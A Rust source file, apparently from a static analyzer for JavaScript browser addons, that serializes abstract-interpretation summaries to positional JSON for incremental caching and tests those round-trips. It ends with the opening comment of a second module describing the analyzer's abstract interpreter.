/// function introduced by the n-th distinct lambda statement of its
/// parent is `"<parent>.<n>"`. Unlike content hashes these names are
/// stable when *other* functions are edited, so they are what contexts,
/// sites and object kinds are serialized against.
#[derive(Debug)]
pub struct FuncPositions {
    pos: Vec<String>,
    by_pos: HashMap<String, IrFuncId>,
}

impl FuncPositions {
    /// The position string of a function.
    pub fn pos_of(&self, f: IrFuncId) -> &str {
        &self.pos[f.0 as usize]
    }

    /// Resolves a position back to this program's function, if present.
    pub fn func_at(&self, pos: &str) -> Option<IrFuncId> {
        self.by_pos.get(pos).copied()
    }
}

/// Lexical lambda ordinal of `child` inside `parent` (first-appearance
/// order among the parent's distinct `Lambda` statements).
fn lambda_ordinal(lowered: &Lowered, parent: IrFuncId, child: IrFuncId) -> Option<u32> {
    let pf = &lowered.program.funcs[parent.0 as usize];
    let mut seen: HashMap<IrFuncId, u32> = HashMap::new();
    for s in &pf.stmts {
        if let IrStmtKind::Lambda { func: c, .. } = &lowered.program.stmt(*s).kind {
            let next = seen.len() as u32;
            let ord = *seen.entry(*c).or_insert(next);
            if *c == child {
                return Some(ord);
            }
        }
    }
    None
}

/// Computes positional names for every function of a lowered program.
pub fn func_positions(lowered: &Lowered) -> FuncPositions {
    let funcs = &lowered.program.funcs;
    let top = lowered.program.top_level().id;
    let mut pos: Vec<Option<String>> = vec![None; funcs.len()];
    pos[top.0 as usize] = Some("T".to_owned());
    // Parents always precede children in id order (lowering emits outer
    // functions first), but resolve defensively with a fixpoint sweep.
    let mut progressed = true;
    while progressed {
        progressed = false;
        for f in funcs {
            if pos[f.id.0 as usize].is_some() {
                continue;
            }
            let Some(parent) = f.parent else {
                pos[f.id.0 as usize] = Some(format!("?{}", f.id.0));
                progressed = true;
                continue;
            };
            let Some(ppos) = pos[parent.0 as usize].clone() else {
                continue;
            };
            let name = match lambda_ordinal(lowered, parent, f.id) {
                Some(ord) => format!("{ppos}.{ord}"),
                None => format!("?{}", f.id.0),
            };
            pos[f.id.0 as usize] = Some(name);
            progressed = true;
        }
    }
    let pos: Vec<String> = pos
        .into_iter()
        .enumerate()
        .map(|(i, p)| p.unwrap_or_else(|| format!("?{i}")))
        .collect();
    let by_pos = pos
        .iter()
        .enumerate()
        .map(|(i, p)| (p.clone(), IrFuncId(i as u32)))
        .collect();
    FuncPositions { pos, by_pos }
}

// ---------------------------------------------------------------------------
// &'static str re-interning (for deserialized SiteKey / ObjKind tags)
// ---------------------------------------------------------------------------

/// Well-known static names that deserialization should map back to the
/// canonical `&'static str` without leaking.
const KNOWN_STATICS: &[&str] = &[
    slots::CHAIN,
    slots::SCOPE,
    slots::THIS,
    slots::RET,
    slots::EXC,
    slots::URL,
    slots::HANDLERS,
    slots::TIMERS,
    "frame",
    "new",
    "split",
    "xhr",
];

/// Returns a `&'static str` equal to `s`, preferring the well-known
/// table and a process-wide pool over leaking a fresh allocation. The
/// pool is bounded in practice: only native allocation tags, host names
/// and internal slot names pass through here.
pub fn static_str(s: &str) -> &'static str {
    if let Some(k) = KNOWN_STATICS.iter().find(|k| **k == s) {
        return k;
    }
    static POOL: OnceLock<Mutex<Vec<&'static str>>> = OnceLock::new();
    let pool = POOL.get_or_init(|| Mutex::new(Vec::new()));
    let mut g = pool.lock().expect("static-str pool lock");
    if let Some(k) = g.iter().find(|k| **k == s) {
        return k;
    }
    let leaked: &'static str = Box::leak(s.to_owned().into_boxed_str());
    g.push(leaked);
    leaked
}

// ---------------------------------------------------------------------------
// Normalization (live ids -> positional JSON)
// ---------------------------------------------------------------------------

/// Borrowed view of everything needed to render live analysis ids into
/// their positional serialized form.
pub struct NormCx<'a> {
    /// The lowered program.
    pub lowered: &'a Lowered,
    /// Per-function content hashes and statement translations.
    pub manifest: &'a FuncManifest,
    /// Positional function names.
    pub positions: &'a FuncPositions,
    /// The run's allocation-site interner.
    pub sites: &'a SiteTable,
    /// The run's context interner.
    pub ctxs: &'a CtxTable,
}

impl NormCx<'_> {
    /// `StmtId` -> `[func position, offset]`.
    pub fn nstmt(&self, s: StmtId) -> Json {
        let r = self.manifest.stmt_ref(s);
        if r.offset == u32::MAX {
            // Not in any function's statement list; should not happen for
            // reachable statements, but keep serialization total.
            return Json::Arr(vec![Json::from("!"), Json::from(s.0)]);
        }
        Json::Arr(vec![
            Json::from(self.positions.pos_of(r.func)),
            Json::from(r.offset),
        ])
    }

    /// `CtxId` -> array of normalized call-site statements.
    pub fn nctx(&self, c: CtxId) -> Json {
        Json::Arr(
            self.ctxs
                .get(c)
                .sites()
                .iter()
                .map(|s| self.nstmt(*s))
                .collect(),
        )
    }

    /// `AllocSite` -> a tagged array over its interning key.
    pub fn nsite(&self, site: AllocSite) -> Json {
        match self.sites.origin(site) {
            SiteKey::Global => Json::Arr(vec![Json::from("g")]),
            SiteKey::Frame(f, c) => Json::Arr(vec![
                Json::from("f"),
                Json::from(self.positions.pos_of(*f)),
                self.nctx(*c),
            ]),
            SiteKey::Stmt(s, c) => {
                Json::Arr(vec![Json::from("s"), self.nstmt(*s), self.nctx(*c)])
            }
            SiteKey::Host(name) => Json::Arr(vec![Json::from("h"), Json::from(*name)]),
            SiteKey::NativeAlloc(s, c, tag) => Json::Arr(vec![
                Json::from("n"),
                self.nstmt(*s),
                self.nctx(*c),
                Json::from(*tag),
            ]),
            SiteKey::Aged(inner) => {
                Json::Arr(vec![Json::from("a"), self.nsite(AllocSite(*inner))])
            }
        }
    }

    /// A canonical sort key for a site (used to order site lists and
    /// heap entries deterministically across runs).
    pub fn site_sort_key(&self, site: AllocSite) -> String {
        self.nsite(site).to_string_compact()
    }

    /// Normalizes an abstract value.
    pub fn nvalue(&self, v: &AValue) -> Json {
        let mut objs: Vec<(String, Json)> = v
            .objs
            .iter()
            .map(|s| {
                let j = self.nsite(*s);
                (j.to_string_compact(), j)
            })
            .collect();
        objs.sort_by(|a, b| a.0.cmp(&b.0));
        let mut o = Json::obj();
        o.set("u", Json::Bool(v.undef));
        o.set("nl", Json::Bool(v.null));
        o.set(
            "b",
            Json::from(match v.bools {
                BoolDom::Bot => "_",
                BoolDom::True => "t",
                BoolDom::False => "f",
                BoolDom::Top => "T",
            }),
        );
        o.set(
            "n",
            match v.nums {
                NumDom::Bot => Json::Arr(vec![Json::from("_")]),
                NumDom::Const(x) => Json::Arr(vec![
                    Json::from("c"),
                    Json::from(format!("{:016x}", x.to_bits())),
                ]),
                NumDom::Top => Json::Arr(vec![Json::from("T")]),
            },
        );
        o.set("s", npre(&v.strs));
        o.set("o", Json::Arr(objs.into_iter().map(|(_, j)| j).collect()));
        o
    }

    /// Normalizes an abstract object.
    pub fn nobject(&self, obj: &AObject) -> Json {
        let kind = match &obj.kind {
            ObjKind::Plain => Json::Arr(vec![Json::from("plain")]),
            ObjKind::Array => Json::Arr(vec![Json::from("array")]),
            ObjKind::Function(fi) => Json::Arr(vec![
                Json::from("fn"),
                Json::from(self.positions.pos_of(IrFuncId(fi.0))),
            ]),
            ObjKind::Native(nid) => Json::Arr(vec![Json::from("nat"), Json::from(nid.0)]),
            ObjKind::Host(name) => Json::Arr(vec![Json::from("host"), Json::from(*name)]),
            ObjKind::Regex => Json::Arr(vec![Json::from("regex")]),
        };
        let mut o = Json::obj();
        o.set("k", kind);
        o.set("sg", Json::Bool(obj.singleton));
        // BTreeMap<Sym, _> iterates in symbol-text order and
        // BTreeMap<&'static str, _> in text order: both are canonical.
        o.set(
            "p",
            Json::Arr(
                obj.props
                    .iter()
                    .map(|(k, v)| {
                        Json::Arr(vec![Json::from(k.as_str()), self.nvalue(v)])
                    })
                    .collect(),
            ),
        );
        o.set("up", self.nvalue(&obj.unknown_props));
        o.set(
            "i",
            Json::Arr(
                obj.internal
                    .iter()
                    .map(|(k, v)| Json::Arr(vec![Json::from(*k), self.nvalue(v)]))
                    .collect(),
            ),
        );
        o
    }

    /// Normalizes a set of heap entries (site -> object), sorted by the
    /// canonical site key.
    pub fn nheap(&self, entries: impl IntoIterator<Item = (AllocSite, AObject)>) -> Json {
        let mut rows: Vec<(String, Json)> = entries
            .into_iter()
            .map(|(site, obj)| {
                let sj = self.nsite(site);
                (
                    sj.to_string_compact(),
                    Json::Arr(vec![sj, self.nobject(&obj)]),
                )
            })
            .collect();
        rows.sort_by(|a, b| a.0.cmp(&b.0));
        Json::Arr(rows.into_iter().map(|(_, j)| j).collect())
    }
}

/// Normalizes a prefix-domain element.
pub fn npre(p: &Pre) -> Json {
    match p {
        Pre::Bot => Json::Arr(vec![Json::from("_")]),
        Pre::Exact(s) => Json::Arr(vec![Json::from("e"), Json::from(s.as_str())]),
        Pre::Prefix(s) => Json::Arr(vec![Json::from("p"), Json::from(s.as_str())]),
    }
}

/// Parses a normalized prefix-domain element.
pub fn dpre(j: &Json) -> Option<Pre> {
    match j.as_array()?.first()?.as_str()? {
        "_" => Some(Pre::Bot),
        "e" => Some(Pre::Exact(Sym::intern(j[1].as_str()?))),
        "p" => Some(Pre::Prefix(Sym::intern(j[1].as_str()?))),
        _ => None,
    }
}

/// Normalizes a sink kind (tagged so a `Custom("send")` cannot collide
/// with the built-in `Send`).
pub fn nsink(k: &SinkKind) -> Json {
    match k {
        SinkKind::Custom(name) => Json::Arr(vec![Json::from("c"), Json::from(name.as_str())]),
        builtin => Json::Arr(vec![Json::from("b"), Json::from(builtin.to_string())]),
    }
}

/// Parses a normalized sink kind.
pub fn dsink(j: &Json) -> Option<SinkKind> {
    let arr = j.as_array()?;
    let text = arr.get(1)?.as_str()?;
    match arr.first()?.as_str()? {
        "c" => Some(SinkKind::Custom(text.to_owned())),
        "b" => match text {
            "send" => Some(SinkKind::Send),
            "scriptloader" => Some(SinkKind::ScriptLoader),
            "eval" => Some(SinkKind::Eval),
            "prefwrite" => Some(SinkKind::PrefWrite),
            "filewrite" => Some(SinkKind::FileWrite),
            _ => None,
        },
        _ => None,
    }
}

/// Normalizes an access strength.
pub fn nstrength(s: Strength) -> Json {
    Json::from(match s {
        Strength::Strong => "s",
        Strength::Weak => "w",
    })
}

/// Parses a normalized access strength.
pub fn dstrength(j: &Json) -> Option<Strength> {
    match j.as_str()? {
        "s" => Some(Strength::Strong),
        "w" => Some(Strength::Weak),
        _ => None,
    }
}

// ---------------------------------------------------------------------------
// Denormalization (positional JSON -> live ids of a fresh run)
// ---------------------------------------------------------------------------

/// Resolves positional serialized forms against a (possibly edited)
/// program. All methods return `None` when a name no longer resolves —
/// the caller treats that as a summary miss.
pub struct Denormer<'a> {
    /// The lowered program of the *current* run.
    pub lowered: &'a Lowered,
    /// Its manifest.
    pub manifest: &'a FuncManifest,
    /// Its positional names.
    pub positions: &'a FuncPositions,
    /// Context depth (`AnalysisConfig::context_depth`).
    pub k: usize,
}

impl Denormer<'_> {
    /// `[func position, offset]` -> `StmtId`.
    pub fn stmt(&self, j: &Json) -> Option<StmtId> {
        let arr = j.as_array()?;
        let func = self.positions.func_at(arr.first()?.as_str()?)?;
        let offset = arr.get(1)?.as_f64()? as u32;
        self.manifest.stmt_at(self.lowered, func, offset)
    }

    /// Array of normalized call sites -> interned `CtxId`.
    pub fn ctx(&self, j: &Json, ctxs: &mut CtxTable) -> Option<CtxId> {
        let mut c = CtxId::ROOT;
        for sj in j.as_array()? {
            let s = self.stmt(sj)?;
            c = ctxs.push(c, s, self.k);
        }
        Some(c)
    }

    /// Tagged site array -> interned `AllocSite`.
    pub fn site(
        &self,
        j: &Json,
        sites: &mut SiteTable,
        ctxs: &mut CtxTable,
    ) -> Option<AllocSite> {
        let arr = j.as_array()?;
        let key = match arr.first()?.as_str()? {
            "g" => SiteKey::Global,
            "f" => {
                let func = self.positions.func_at(arr.get(1)?.as_str()?)?;
                let c = self.ctx(arr.get(2)?, ctxs)?;
                SiteKey::Frame(func, c)
            }
            "s" => {
                let s = self.stmt(arr.get(1)?)?;
                let c = self.ctx(arr.get(2)?, ctxs)?;
                SiteKey::Stmt(s, c)
            }
            "h" => SiteKey::Host(static_str(arr.get(1)?.as_str()?)),
            "n" => {
                let s = self.stmt(arr.get(1)?)?;
                let c = self.ctx(arr.get(2)?, ctxs)?;
                SiteKey::NativeAlloc(s, c, static_str(arr.get(3)?.as_str()?))
            }
            "a" => {
                let inner = self.site(arr.get(1)?, sites, ctxs)?;
                SiteKey::Aged(inner.0)
            }
            _ => return None,
        };
        Some(sites.intern(key))
    }

    /// Normalized value -> `AValue`.
    pub fn value(
        &self,
        j: &Json,
        sites: &mut SiteTable,
        ctxs: &mut CtxTable,
    ) -> Option<AValue> {
        let mut v = AValue::bottom();
        v.undef = matches!(j.get("u")?, Json::Bool(true));
        v.null = matches!(j.get("nl")?, Json::Bool(true));
        v.bools = match j["b"].as_str()? {
            "_" => BoolDom::Bot,
            "t" => BoolDom::True,
            "f" => BoolDom::False,
            "T" => BoolDom::Top,
            _ => return None,
        };
        let n = j.get("n")?;
        v.nums = match n.as_array()?.first()?.as_str()? {
            "_" => NumDom::Bot,
            "c" => NumDom::Const(f64::from_bits(u64::from_str_radix(
                n[1].as_str()?,
                16,
            )
            .ok()?)),
            "T" => NumDom::Top,
            _ => return None,
        };
        v.strs = dpre(j.get("s")?)?;
        for sj in j.get("o")?.as_array()? {
            v.objs.insert(self.site(sj, sites, ctxs)?);
        }
        Some(v)
    }

    /// Normalized object -> `AObject`.
    pub fn object(
        &self,
        j: &Json,
        sites: &mut SiteTable,
        ctxs: &mut CtxTable,
    ) -> Option<AObject> {
        let karr = j.get("k")?.as_array()?;
        let kind = match karr.first()?.as_str()? {
            "plain" => ObjKind::Plain,
            "array" => ObjKind::Array,
            "fn" => {
                let f = self.positions.func_at(karr.get(1)?.as_str()?)?;
                ObjKind::Function(FuncIndex(f.0))
            }
            "nat" => ObjKind::Native(NativeId(karr.get(1)?.as_f64()? as u32)),
            "host" => ObjKind::Host(static_str(karr.get(1)?.as_str()?)),
            "regex" => ObjKind::Regex,
            _ => return None,
        };
        let mut obj = AObject::new(kind);
        obj.singleton = matches!(j.get("sg")?, Json::Bool(true));
        for row in j.get("p")?.as_array()? {
            let key = Sym::intern(row[0].as_str()?);
            let val = self.value(&row[1], sites, ctxs)?;
            obj.props.insert(key, val);
        }
        obj.unknown_props = self.value(j.get("up")?, sites, ctxs)?;
        for row in j.get("i")?.as_array()? {
            let key = static_str(row[0].as_str()?);
            let val = self.value(&row[1], sites, ctxs)?;
            obj.internal.insert(key, val);
        }
        Some(obj)
    }

    /// Normalized heap entries -> a fresh `State`.
    pub fn state(
        &self,
        j: &Json,
        sites: &mut SiteTable,
        ctxs: &mut CtxTable,
    ) -> Option<State> {
        let mut st = State::new();
        for row in j.as_array()? {
            let site = self.site(&row[0], sites, ctxs)?;
            let obj = self.object(&row[1], sites, ctxs)?;
            st.alloc(site, obj.kind.clone());
            *st.heap.get_mut(site)? = obj;
        }
        Some(st)
    }
}

// ---------------------------------------------------------------------------
// Heap reachability and ordering helpers
// ---------------------------------------------------------------------------

fn value_sites(v: &AValue, out: &mut Vec<AllocSite>) {
    out.extend(v.objs.iter().copied());
}

/// Allocation sites reachable in `state` from `roots` by following
/// object-valued properties, unknown-prop summaries and internal slots.
/// This over-approximates everything a callee could read or write
/// through its frame/scope/global roots, so it is the summary footprint.
pub fn reach_sites(
    state: &State,
    roots: impl IntoIterator<Item = AllocSite>,
) -> BTreeSet<AllocSite> {
    let mut seen: BTreeSet<AllocSite> = BTreeSet::new();
    let mut work: Vec<AllocSite> = Vec::new();
    for r in roots {
        if state.object(r).is_some() && seen.insert(r) {
            work.push(r);
        }
    }
    let mut next = Vec::new();
    while let Some(site) = work.pop() {
        let Some(obj) = state.object(site) else {
            continue;
        };
        next.clear();
        for v in obj.props.values() {
            value_sites(v, &mut next);
        }
        value_sites(&obj.unknown_props, &mut next);
        for v in obj.internal.values() {
            value_sites(v, &mut next);
        }
        for s in next.drain(..) {
            if state.object(s).is_some() && seen.insert(s) {
                work.push(s);
            }
        }
    }
    seen
}

/// `a ⊑ b` on abstract objects, defined through the machine's own join:
/// `a` is below `b` iff joining `a` into `b` changes nothing.
pub fn obj_leq(a: &AObject, b: &AObject) -> bool {
    if a.kind != b.kind {
        return false;
    }
    let mut t = b.clone();
    t.join_in_place(a);
    t == *b
}

// ---------------------------------------------------------------------------
// Document shell
// ---------------------------------------------------------------------------

/// Creates an empty summary document for one root function.
pub fn doc_new(own_hash: u64, config: &AnalysisConfig) -> Json {
    let mut doc = Json::obj();
    doc.set("schema", Json::from(SUMMARY_SCHEMA));
    doc.set("analyzer", Json::from(ANALYZER_VERSION));
    doc.set("config", Json::from(config.canonical_string()));
    doc.set("own_hash", Json::from(hash_hex(own_hash)));
    doc.set("entries", Json::Arr(Vec::new()));
    doc
}

/// Parses and validates a stored document. Any corruption — truncated
/// JSON, wrong schema, analyzer/config/hash mismatch (a key collision) —
/// yields `None`, which callers treat as a miss to re-analyze through.
pub fn doc_parse(text: &str, own_hash: u64, config: &AnalysisConfig) -> Option<Json> {
    let doc = Json::parse(text).ok()?;
    if doc["schema"].as_f64()? as u32 != SUMMARY_SCHEMA {
        return None;
    }
    if doc["analyzer"].as_f64()? as u32 != ANALYZER_VERSION {
        return None;
    }
    if doc["config"].as_str()? != config.canonical_string() {
        return None;
    }
    if doc["own_hash"].as_str()? != hash_hex(own_hash) {
        return None;
    }
    doc.get("entries")?.as_array()?;
    Some(doc)
}

/// Finds the entry for a root activation `(position, normalized ctx)`.
pub fn doc_find<'d>(doc: &'d Json, root_pos: &str, nctx: &Json) -> Option<&'d Json> {
    doc.get("entries")?
        .as_array()?
        .iter()
        .find(|e| e["root"] == root_pos && e["nctx"] == *nctx)
}

/// Inserts or replaces the entry for its root activation, newest first,
/// truncating to `cap` entries per document.
pub fn doc_upsert(doc: &mut Json, entry: Json, cap: usize) {
    let (root, nctx) = (entry["root"].clone(), entry["nctx"].clone());
    if let Some(Json::Arr(entries)) = match doc {
        Json::Obj(fields) => fields
            .iter_mut()
            .find(|(k, _)| k == "entries")
            .map(|(_, v)| v),
        _ => None,
    } {
        entries.retain(|e| !(e["root"] == root && e["nctx"] == nctx));
        entries.insert(0, entry);
        entries.truncate(cap.max(1));
    }
}

/// Per-run incremental statistics, surfaced through the pipeline report,
/// the daemon's stats endpoint and Prometheus text.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct IncrementalStats {
    /// Activation summaries stitched in from the store.
    pub summary_hits: u64,
    /// Store consultations that found no usable summary.
    pub summary_misses: u64,
    /// Functions whose statements the fixpoint actually re-stepped.
    pub functions_reanalyzed: u64,
    /// Functions in the program.
    pub total_functions: u64,
    /// 1 when the optimistic warm run failed validation and the analysis
    /// fell back to a cold run.
    pub abandoned: u64,
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsir::hash::manifest;

    fn lowered(src: &str) -> Lowered {
        jsir::lower(&jsparser::parse(src).expect("parse"))
    }

    #[test]
    fn positions_are_stable_under_unrelated_edits() {
        let a = lowered(
            "function f(x) { return x; }\nfunction g() { var h = function () { return 1; }; }\nf(1); g();",
        );
        let b = lowered(
            "function f(x) { return x + 42; }\nfunction g() { var h = function () { return 1; }; }\nf(1); g();",
        );
        let pa = func_positions(&a);
        let pb = func_positions(&b);
        for f in &a.program.funcs {
            assert_eq!(pa.pos_of(f.id), pb.pos_of(f.id), "func {}", f.id.0);
            assert_eq!(pa.func_at(pa.pos_of(f.id)), Some(f.id));
        }
        assert_eq!(pa.pos_of(a.program.top_level().id), "T");
    }

    #[test]
    fn nested_positions_use_lambda_ordinals() {
        let l = lowered(
            "function a() {}\nfunction b() { var inner = function () {}; }\na(); b();",
        );
        let p = func_positions(&l);
        let names: BTreeSet<&str> = l
            .program
            .funcs
            .iter()
            .map(|f| p.pos_of(f.id))
            .collect();
        assert!(names.contains("T"));
        assert!(names.contains("T.0"));
        assert!(names.contains("T.1"));
        assert!(names.contains("T.1.0"), "positions: {names:?}");
    }

    #[test]
    fn ctx_and_site_round_trip() {
        let l = lowered("function f(x) { return x; }\nf(1); f(2);");
        let m = manifest(&l);
        let p = func_positions(&l);
        let config = AnalysisConfig::default();
        let mut sites = SiteTable::new();
        let mut ctxs = CtxTable::new();
        let f = p.func_at("T.0").expect("f exists");
        let call = *l.program.top_level().stmts.last().expect("top level has stmts");
        let ctx = ctxs.push(CtxId::ROOT, call, config.context_depth);
        let site = sites.intern(SiteKey::Frame(f, ctx));
        let aged = sites.intern(SiteKey::Aged(site.0));

        let norm = NormCx {
            lowered: &l,
            manifest: &m,
            positions: &p,
            sites: &sites,
            ctxs: &ctxs,
        };
        let nj = norm.nsite(aged);

        // Fresh interners, as a warm run would have.
        let mut sites2 = SiteTable::new();
        let mut ctxs2 = CtxTable::new();
        let de = Denormer {
            lowered: &l,
            manifest: &m,
            positions: &p,
            k: config.context_depth,
        };
        let back = de.site(&nj, &mut sites2, &mut ctxs2).expect("resolves");
        match sites2.origin(back) {
            SiteKey::Aged(inner) => match sites2.origin(AllocSite(*inner)) {
                SiteKey::Frame(rf, rc) => {
                    assert_eq!(*rf, f);
                    assert_eq!(ctxs2.get(*rc).sites(), ctxs.get(ctx).sites());
                }
                other => panic!("wrong inner origin: {other:?}"),
            },
            other => panic!("wrong origin: {other:?}"),
        }
    }

    #[test]
    fn value_and_object_round_trip_bit_identically() {
        let l = lowered("var x = 1;");
        let m = manifest(&l);
        let p = func_positions(&l);
        let mut sites = SiteTable::new();
        let ctxs = CtxTable::new();
        let g = sites.intern(SiteKey::Global);
        let h = sites.intern(SiteKey::Host("xhr.open"));

        let mut v = AValue::str(Pre::prefix("http://api."));
        v.undef = true;
        v.nums = NumDom::Const(-0.0);
        v.objs.insert(g);
        v.objs.insert(h);

        let mut obj = AObject::new(ObjKind::Host("xhr"));
        obj.singleton = true;
        obj.props.insert(Sym::intern("url"), v.clone());
        obj.unknown_props = AValue::any();
        obj.internal.insert(slots::URL, AValue::str(Pre::exact("u")));

        let norm = NormCx {
            lowered: &l,
            manifest: &m,
            positions: &p,
            sites: &sites,
            ctxs: &ctxs,
        };
        let vj = norm.nvalue(&v);
        let oj = norm.nobject(&obj);

        // Round-trip through printed text, like the disk store does.
        let vj = Json::parse(&vj.to_string_compact()).unwrap();
        let oj = Json::parse(&oj.to_string_compact()).unwrap();

        let mut sites2 = SiteTable::new();
        let mut ctxs2 = CtxTable::new();
        let de = Denormer {
            lowered: &l,
            manifest: &m,
            positions: &p,
            k: 1,
        };
        // Pre-intern in a different order to prove ids don't matter.
        let _ = sites2.intern(SiteKey::Host("xhr.open"));
        let v2 = de.value(&vj, &mut sites2, &mut ctxs2).expect("value");
        let o2 = de.object(&oj, &mut sites2, &mut ctxs2).expect("object");

        let norm2 = NormCx {
            lowered: &l,
            manifest: &m,
            positions: &p,
            sites: &sites2,
            ctxs: &ctxs2,
        };
        assert_eq!(
            norm.nvalue(&v).to_string_compact(),
            norm2.nvalue(&v2).to_string_compact()
        );
        assert_eq!(
            norm.nobject(&obj).to_string_compact(),
            norm2.nobject(&o2).to_string_compact()
        );
        // NaN-safe const carrying: -0.0 survived exactly.
        assert_eq!(v2.nums, NumDom::Const(-0.0));
        assert!(matches!(sites2.origin(
            v2.objs.iter().next().copied().unwrap()
        ), SiteKey::Global | SiteKey::Host(_)));
    }

    #[test]
    fn reach_follows_props_unknowns_and_internals() {
        let mut sites = SiteTable::new();
        let a = sites.intern(SiteKey::Global);
        let b = sites.intern(SiteKey::Host("b"));
        let c = sites.intern(SiteKey::Host("c"));
        let d = sites.intern(SiteKey::Host("d"));
        let unreachable = sites.intern(SiteKey::Host("u"));
        let mut st = State::new();
        st.alloc(a, ObjKind::Plain);
        st.alloc(b, ObjKind::Plain);
        st.alloc(c, ObjKind::Plain);
        st.alloc(d, ObjKind::Plain);
        st.alloc(unreachable, ObjKind::Plain);
        let oa = st.heap.get_mut(a).unwrap();
        oa.props.insert(Sym::intern("x"), AValue::obj(b));
        oa.unknown_props = AValue::obj(c);
        oa.internal.insert(slots::SCOPE, AValue::obj(d));
        let r = reach_sites(&st, [a]);
        assert_eq!(r, BTreeSet::from([a, b, c, d]));
    }

    #[test]
    fn obj_leq_matches_join_semantics() {
        let mut small = AObject::new(ObjKind::Plain);
        small.props.insert(Sym::intern("x"), AValue::num(1.0));
        let mut big = small.clone();
        big.props.insert(Sym::intern("y"), AValue::any());
        big.singleton = false;
        small.singleton = true;
        assert!(obj_leq(&small, &big));
        assert!(!obj_leq(&big, &small));
        assert!(!obj_leq(&small, &AObject::new(ObjKind::Array)));
    }

    #[test]
    fn doc_parse_rejects_corruption() {
        let config = AnalysisConfig::default();
        let doc = doc_new(42, &config);
        let text = doc.to_string_compact();
        assert!(doc_parse(&text, 42, &config).is_some());
        // Truncation, garbage, wrong hash, wrong analyzer version.
        assert!(doc_parse(&text[..text.len() / 2], 42, &config).is_none());
        assert!(doc_parse("not json at all {", 42, &config).is_none());
        assert!(doc_parse(&text, 43, &config).is_none());
        let tampered = text.replace(
            &format!("\"analyzer\":{ANALYZER_VERSION}"),
            &format!("\"analyzer\":{}", ANALYZER_VERSION + 1),
        );
        assert!(doc_parse(&tampered, 42, &config).is_none());
        // A different config must also read as a miss.
        let other = AnalysisConfig::default().with_context_depth(3);
        assert!(doc_parse(&text, 42, &other).is_none());
    }

    #[test]
    fn doc_upsert_replaces_and_caps() {
        let config = AnalysisConfig::default();
        let mut doc = doc_new(1, &config);
        let entry = |root: &str, v: u32| {
            let mut e = Json::obj();
            e.set("root", Json::from(root));
            e.set("nctx", Json::Arr(vec![]));
            e.set("v", Json::from(v));
            e
        };
        doc_upsert(&mut doc, entry("T.0", 1), 2);
        doc_upsert(&mut doc, entry("T.1", 2), 2);
        doc_upsert(&mut doc, entry("T.0", 3), 2);
        let entries = doc["entries"].as_array().unwrap();
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[0]["root"], "T.0");
        assert_eq!(entries[0]["v"].as_f64(), Some(3.0));
        doc_upsert(&mut doc, entry("T.2", 4), 2);
        assert_eq!(doc["entries"].as_array().unwrap().len(), 2);
        assert_eq!(doc["entries"][0]["root"], "T.2");
    }

    #[test]
    fn memory_store_is_lru() {
        let s = MemorySummaryStore::new(2);
        s.save(1, "one");
        s.save(2, "two");
        assert_eq!(s.load(1).as_deref(), Some("one")); // freshens 1
        s.save(3, "three"); // evicts 2
        assert_eq!(s.load(2), None);
        assert_eq!(s.load(1).as_deref(), Some("one"));
        assert_eq!(s.load(3).as_deref(), Some("three"));
    }

    #[test]
    fn disk_store_round_trips_atomically_and_evicts() {
        let dir = std::env::temp_dir().join(format!(
            "sumstore-test-{}-{:x}",
            std::process::id(),
            store_key(7, &AnalysisConfig::default())
        ));
        let _ = std::fs::remove_dir_all(&dir);
        let s = DiskSummaryStore::new(&dir, 2).expect("create store dir");
        assert_eq!(s.load(1), None);
        s.save(1, "{\"a\":1}");
        assert_eq!(s.load(1).as_deref(), Some("{\"a\":1}"));
        s.save(1, "{\"a\":2}");
        assert_eq!(s.load(1).as_deref(), Some("{\"a\":2}"));
        // No temp droppings left behind.
        let leftovers: Vec<_> = std::fs::read_dir(&dir)
            .unwrap()
            .flatten()
            .filter(|e| e.path().extension().is_none_or(|x| x != "json"))
            .collect();
        assert!(leftovers.is_empty(), "stray files: {leftovers:?}");
        // Evicts down to cap.
        s.save(2, "two");
        s.save(3, "three");
        let json_files = std::fs::read_dir(&dir)
            .unwrap()
            .flatten()
            .filter(|e| e.path().extension().is_some_and(|x| x == "json"))
            .count();
        assert_eq!(json_files, 2);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn corrupted_disk_document_reads_as_miss_at_parse() {
        let config = AnalysisConfig::default();
        let dir = std::env::temp_dir().join(format!(
            "sumstore-corrupt-{}",
            std::process::id()
        ));
        let _ = std::fs::remove_dir_all(&dir);
        let s = DiskSummaryStore::new(&dir, 8).expect("create store dir");
        let key = store_key(99, &config);
        // Simulate a torn write / disk corruption.
        std::fs::write(dir.join(format!("{key:016x}.json")), "{\"sche").unwrap();
        let text = s.load(key).expect("file exists");
        assert!(doc_parse(&text, 99, &config).is_none());
        // Recovery path: overwrite with a good document.
        s.save(key, &doc_new(99, &config).to_string_compact());
        let text = s.load(key).expect("file exists");
        assert!(doc_parse(&text, 99, &config).is_some());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn store_key_separates_hash_config_and_version() {
        let c1 = AnalysisConfig::default();
        let c2 = AnalysisConfig::default().with_context_depth(2);
        assert_ne!(store_key(1, &c1), store_key(2, &c1));
        assert_ne!(store_key(1, &c1), store_key(1, &c2));
        assert_eq!(store_key(1, &c1), store_key(1, &c1));
    }

    #[test]
    fn store_key_separates_ladder_tiers() {
        // Tier identity: a summary recorded by the triage rung must
        // never be spliced into a full-sensitivity run (or vice versa),
        // even for configurations that agree on every other knob. The
        // `triage` knob rides the canonical string, so the keys differ.
        let tier0 = AnalysisConfig::tier0();
        let full = AnalysisConfig::tier_full();
        assert_ne!(store_key(1, &tier0), store_key(1, &full));
        let k0 = AnalysisConfig::tier0().with_triage(false);
        assert_ne!(
            store_key(1, &tier0),
            store_key(1, &k0),
            "triage alone must discriminate"
        );
    }
}
