//! The flow- and context-sensitive abstract interpreter (the paper's
//! "base analysis", standing in for JSAI).
//!
//! A worklist fixpoint over `(statement, context)` pairs computes, for the
//! whole addon:
//!
//! - abstract values (reduced product of pointer, prefix-string, and
//!   constant analyses),
//! - the call graph (control-flow analysis),
//! - per-statement **read/write sets** with strong/weak qualification
//!   (the inputs to annotated-PDG construction, Section 3),
//! - which statements **may implicitly throw**,
//! - network **sink records** with inferred prefix-domain URLs
//!   (Section 5), and interesting-API usage.
//!
//! Activation frames are heap objects, making closures sound by
//! construction; the addon event loop is the non-deterministic dispatch
//! statement appended by `jsir` (Section 6.1).

use crate::config::{
